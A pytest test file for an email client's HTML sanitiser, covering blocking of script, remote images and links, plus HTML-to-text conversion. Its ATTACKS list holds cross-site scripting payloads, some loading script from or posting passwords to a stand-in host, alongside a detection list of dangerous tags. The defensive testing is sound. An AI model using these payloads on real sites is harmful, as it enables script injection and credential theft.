"""HTML of strangers is shown without letting it act, and read as text."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mail.html import has_remote_images, remote_images, sanitise, with_remote_images
from mail.html_text import strip_tags, to_text
from mail.html_tokens import tokens

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    "<svg/onload=alert(1)>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x></object><embed src=x>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:e\\xpression(alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<table background='https://evil.example/x.png'><td>x</td></table>",
    "<video><source onerror=alert(1)></video>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<p id="login" class="admin" name="x">x</p>',
    "<template><script>alert(1)</script></template>",
    '<img srcset="https://evil.example/x.png 1x" src="">',
]
LIVE = (
    "<script",
    "onerror",
    "onload",
    "javascript:",
    "vbscript:",
    "<iframe",
    "<object",
    "<embed",
    "<meta",
    "<base",
    "<link",
    "<form",
    "<input",
    "<svg",
    "<style",
    "expression",
    "@import",
    "srcdoc",
    "background",
    "srcset",
    'id="login"',
    'class="admin"',
    "<button",
    "data:text",
    "<video",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_acts(attack: str) -> None:
    clean = sanitise(attack)
    assert clean is not None
    tags = "".join(token.source for token in tokens(clean) if token.tag).lower()
    assert not any(word in tags for word in LIVE), clean


@pytest.mark.parametrize(
    "source",
    [
        "https://tracker.example/a.gif",
        "http://tracker.example/a.gif",
        "//tracker.example/a.gif",
        " HTTPS://tracker.example/a.gif",
    ],
)
def test_remote_pictures_wait_until_they_are_asked_for(source: str) -> None:
    clean = sanitise(f'<p>a</p><img alt="src=&quot;x&quot;" src="{source}">')
    assert clean is not None
    assert " src=" not in clean.replace('"src=', "")
    assert has_remote_images(clean)
    assert f' src="{source}"' in with_remote_images(clean)


def test_pictures_of_the_message_itself_stay() -> None:
    clean = sanitise(
        '<img src="cid:a@b"><img src="data:image/png;base64,AAAA"><img src="data:image/svg+xml;base64,AAAA">'
    )
    assert clean == '<img src="cid:a@b"><img src="data:image/png;base64,AAAA"><img>'
    assert not has_remote_images(clean)


def test_links_open_elsewhere_and_tell_nothing() -> None:
    assert sanitise('<a href="https://northwind.example" target="_self" rel="opener">x</a>') == (
        '<a href="https://northwind.example" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )


def test_what_is_too_deep_or_too_large_is_not_shown_but_read() -> None:
    deep = "<div>" * 3_000 + "Still readable"
    assert sanitise(deep) is None
    assert strip_tags(deep) == "Still readable"
    assert sanitise("a" * 2_000_001) is None


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
        ("<div>One</div><div>Two<br>Three</div>", "One\nTwo\nThree"),
        ("a <b>bold</b>, <i>i</i>.", "a bold, i."),
        ("<ul><li>One</li><li>Two</li></ul>", "* One\n* Two"),
        ("<blockquote>Old<blockquote>Older</blockquote></blockquote>New", "> Old\n>\n> > Older\n\nNew"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ('<a href="https://x.example/">https://x.example</a>', "https://x.example"),
        ('<a href="mailto:a@x.example">Aino</a>', "Aino <a@x.example>"),
        ("x<hr>y", "x\n" + "_" * 32 + "\ny"),
        ("1 &lt; 2 &amp; 3", "1 < 2 & 3"),
        ('seen<span style="display: none">hidden<b>too</b></span> again', "seen again"),
        ("<title>no</title>yes", "yes"),
    ],
)
def test_html_is_read_as_a_browser_lays_it_out(html: str, text: str) -> None:
    clean = sanitise(html)
    assert clean is not None
    assert to_text(clean) == text


@given(st.text(alphabet="<>&\"'= /abdivsrctylehpo:-!", max_size=120))
def test_any_tag_soup_is_cut_into_tokens_without_loss(soup: str) -> None:
    clean = sanitise(soup)
    assert clean is not None
    assert "".join(token.source for token in tokens(clean)) == clean
    assert "\x00" not in to_text(clean)
    assert "<" not in strip_tags(soup) or "&lt" in soup or "<" in soup


def test_pictures_that_are_held_back_are_named_in_their_order() -> None:
    clean = sanitise(
        '<img src="https://a.example/1.png?x=1&amp;y=2"><img src="cid:own"><p title="<img src=x>">'
        "<img src='//b.example/2.gif'></p><img src=\"data:image/png;base64,AAAA\">"
    )
    assert clean is not None
    assert remote_images(clean) == ["https://a.example/1.png?x=1&y=2", "//b.example/2.gif"]
    assert remote_images("<p>None.</p>") == []
